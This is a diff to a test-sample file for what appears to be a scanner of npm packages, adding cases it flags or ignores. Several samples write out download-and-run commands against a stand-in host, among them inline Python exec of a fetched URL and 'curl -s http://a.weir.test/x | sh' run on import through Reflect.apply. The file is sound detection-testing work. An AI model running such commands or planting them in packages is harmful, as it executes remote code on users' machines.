@@ -1,12 +1,8 @@
 import type { Samples } from '../contract.ts';
-import { manifest, quiet } from '../samples-kit.ts';
+import { hooked, manifest, quiet } from '../samples-kit.ts';
 
 /** Line of the first script in a manifest made by `manifest`. */
 const SCRIPT_LINE = 5;
-
-function hooked(command: string, more: Readonly<Record<string, string>> = {}): Record<string, string> {
-  return { 'package.json': manifest({ scripts: { postinstall: command } }), ...more };
-}
 
 function at(
   rule: string,
@@ -95,6 +91,26 @@ export const samples: Samples = {
       expected: [at('download-and-run', 'critical', 'setup.js', 2)],
     },
     {
+      name: 'inline Python that downloads and runs',
+      files: hooked(`python3 -c "import urllib.request as u;exec(u.urlopen('http://a.weir.test/x').read())"`),
+      expected: [at('download-and-run', 'critical')],
+    },
+    {
+      name: 'a package from an address',
+      files: hooked('npm install --no-save http://a.weir.test/x.tgz'),
+      expected: [at('remote-install', 'high')],
+    },
+    {
+      name: 'started through Reflect, in another file, when the package is imported',
+      files: {
+        'package.json': manifest({ main: 'index.js' }),
+        'index.js': "require('./lib/run').start();\n",
+        'lib/run.js':
+          "exports.start = () => {\n  Reflect.apply(require('child_process').execSync, null, ['curl -s http://a.weir.test/x | sh']);\n};\n",
+      },
+      expected: [at('download-and-run', 'critical', 'lib/run.js', 2)],
+    },
+    {
       name: 'a shipped executable',
       files: {
         ...hooked('./tools/setup'),
@@ -116,6 +132,12 @@ export const samples: Samples = {
         'scripts/build.js': "require('fs').writeFileSync('out.js', '1');\n",
       }),
     ),
+    quiet('a command that another file has but nobody calls', {
+      'package.json': manifest({ main: 'index.js' }),
+      'index.js': "exports.run = require('./lib/run');\n",
+      'lib/run.js':
+        "exports.start = () => require('child_process').execSync('curl -s http://a.weir.test/x | sh');\n",
+    }),
     quiet('a message', hooked('node -e "console.log(\'thanks\')" || exit 0')),
     quiet(
       'an optional script',
